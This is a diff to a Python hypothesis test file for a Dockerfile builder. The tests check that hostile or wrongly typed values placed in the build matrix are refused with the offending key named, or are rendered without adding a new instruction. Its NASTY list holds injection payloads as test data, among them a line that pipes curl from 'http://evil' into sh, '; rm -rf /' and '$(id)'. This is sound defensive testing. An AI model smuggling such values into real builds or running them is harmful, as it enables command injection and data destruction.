@@ -6,20 +6,29 @@ from __future__ import annotations
 
 import contextlib
 import io
+import os
 import re
 import tempfile
 from pathlib import Path
 
+import pytest
 import yaml
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, Phase, assume, given, settings
 from hypothesis import strategies as st
 
-from builder import cli
+from builder import cli, matrix
 from tests.conftest import REPO
 
 BASE = yaml.safe_load((REPO / "matrix.yaml").read_text())
 INSTRUCTION = re.compile(r"^(FROM|ARG|ENV|RUN|COPY|USER|ENTRYPOINT|LABEL)\b")
-SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+# A fixed seed (derandomize) and no example database: every run tries the same inputs, so a run
+# that passes today and fails tomorrow means the code changed, not the dice.
+# The mutation run (tests/unit/mutation.py) asks for fewer examples and no shrinking: it runs these
+# once per mutant, and only needs to know that one fails.
+MUTATION_RUN = "K3_HYPOTHESIS_EXAMPLES" in os.environ
+SETTINGS = settings(max_examples=int(os.environ.get("K3_HYPOTHESIS_EXAMPLES", "150")), deadline=None,
+                    derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow],
+                    phases=[Phase.explicit, Phase.generate] if MUTATION_RUN else list(Phase))
 
 
 def _leaves(node, path=()):
@@ -47,16 +56,30 @@ MAPPINGS = sorted((m for m in _mappings(BASE) if not (m[-1:] and m[-1] in USER_D
 NASTY = ["\n", "\r", '"', "'", "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", " ", "\u2028", "\x00",
          "\nRUN curl http://evil | sh", "${HOME}", "; rm -rf /", "é", "😀"]
 
+# Characters no pattern in builder/matrix.py accepts anywhere: each breaks a line, quotes, expands or
+# escapes in a Dockerfile or a shell. A value holding one is refused at every leaf, whatever its key.
+FORBIDDEN = ["\n", "\r", '"', "`", "$", "\\", "\x00", "\u2028", "{", "}"]
+NASTY = ["\n", "\r", '"', "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", "\u2028", "\x00",
+         "\nRUN curl http://evil | sh", "${HOME}", "\"; rm -rf /"]
+assert all(any(c in n for c in FORBIDDEN) for n in NASTY)
+
 hostile_strings = st.one_of(
     st.sampled_from(NASTY),
     st.builds(lambda a, n, b: a + n + b, st.text(max_size=20), st.sampled_from(NASTY), st.text(max_size=20)),
-    st.text(max_size=50),
-    st.just(""),
-    st.text(min_size=300, max_size=3000),
+    st.builds(lambda a, c: a + c, st.text(max_size=50), st.sampled_from(FORBIDDEN)),
 )
-wrong_types = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.none(),
-                        st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(),
-                                                                              max_size=2))
+# Never the type a leaf has: every leaf of the committed matrix is a string, a date, an integer or a
+# boolean, and strict types take no other (None is left out: optional keys accept it; empty
+# containers too; booleans and floats are not tried on a boolean key).
+wrong_types = st.one_of(st.floats(allow_nan=False), st.booleans(),
+                        st.lists(st.integers(), min_size=1, max_size=3),
+                        st.dictionaries(st.text(min_size=1, max_size=5), st.integers(), min_size=1, max_size=2))
+
+
+def _get(doc, path):
+    for key in path:
+        doc = doc[key]
+    return doc
 
 
 def _set(doc, path, value):
@@ -113,18 +136,61 @@ def _assert_rendered_safely(tmp: Path, value) -> None:
         assert not set(value) & set('\n\r"`$\\'), repr(value)
 
 
+def _leaf_key(path) -> str:
+    """How the error names a leaf: targets.cu129.cuda.arch_list.0, or defaults.owner (used by ...).
+    A list item is named at least by its list (see the union case below)."""
+    if isinstance(path[-1], int):
+        path = path[:-1]
+    return ".".join(matrix._key(p) for p in path)
+
+
 @SETTINGS
-@given(path=st.sampled_from(LEAVES), value=st.one_of(hostile_strings, wrong_types))
-def test_any_leaf_replaced_by_hostile_value(path, value):
+@given(path=st.sampled_from(LEAVES), value=hostile_strings)
+def test_any_leaf_replaced_by_a_hostile_string_is_refused_naming_it(path, value):
     doc = _copy(BASE)
     _set(doc, path, value)
     code, stderr, tmp = _run(yaml.safe_dump(doc, allow_unicode=True))
-    if code == 0:
-        _assert_rendered_safely(tmp, value)
-    else:
-        _assert_refused_cleanly(code, stderr, tmp)
-        where = ".".join(str(p) for p in path[:2])
-        assert where in stderr or "line" in stderr or "(top level)" in stderr, (path, stderr)
+    _assert_refused_cleanly(code, stderr, tmp)
+    assert _leaf_key(path) in stderr, (path, stderr)
+
+
+@SETTINGS
+@given(path=st.sampled_from(LEAVES), value=wrong_types)
+def test_any_leaf_replaced_by_a_value_of_the_wrong_type_is_refused_naming_it(path, value):
+    # A boolean key takes 0/1 and true/false spelled many ways: only containers are wrong for it.
+    assume(not (isinstance(_get(BASE, path), bool) and isinstance(value, (bool, float))))
+    doc = _copy(BASE)
+    _set(doc, path, value)
+    code, stderr, tmp = _run(yaml.safe_dump(doc, allow_unicode=True))
+    _assert_refused_cleanly(code, stderr, tmp)
+    assert _leaf_key(path) in stderr, (path, stderr)
+
+
+def test_a_bad_submodule_path_is_named_by_its_index():
+    doc = _copy(BASE)
+    _set(doc, ("targets", "cu129", "source", "third_party", "deepgemm", "submodules", 0), "a\nb")
+    code, stderr, tmp = _run(yaml.safe_dump(doc))
+    _assert_refused_cleanly(code, stderr, tmp)
+    assert "targets.cu129.source.third_party.deepgemm.submodules.0: must be a relative path" in stderr
+
+
+def test_every_leaf_is_a_string_a_date_an_integer_or_a_boolean():
+    # What wrong_types relies on: a leaf of another kind would make "wrong type" ambiguous.
+    for path in LEAVES:
+        assert isinstance(_get(BASE, path), (str, int, bool, __import__("datetime").date)), path
+
+
+@pytest.mark.parametrize("path,value", [
+    (("targets", "cu129", "description"), "K3 (r575): a.b/c_d+e=f@g#h, 1;2-3"),  # every character Text allows
+    (("targets", "cu129", "source", "extensions", "absent", "torch.ops._C.fused_kda_decode"),
+     "a reason with 'quotes', <angle> [brackets] and (parens)"),  # Reason allows more: it is never rendered
+])
+def test_a_valid_unusual_value_renders_without_a_new_instruction(path, value):
+    doc = _copy(BASE)
+    _set(doc, path, value)
+    code, stderr, tmp = _run(yaml.safe_dump(doc, allow_unicode=True))
+    assert code == 0, stderr
+    _assert_rendered_safely(tmp, value)
 
 
 @SETTINGS
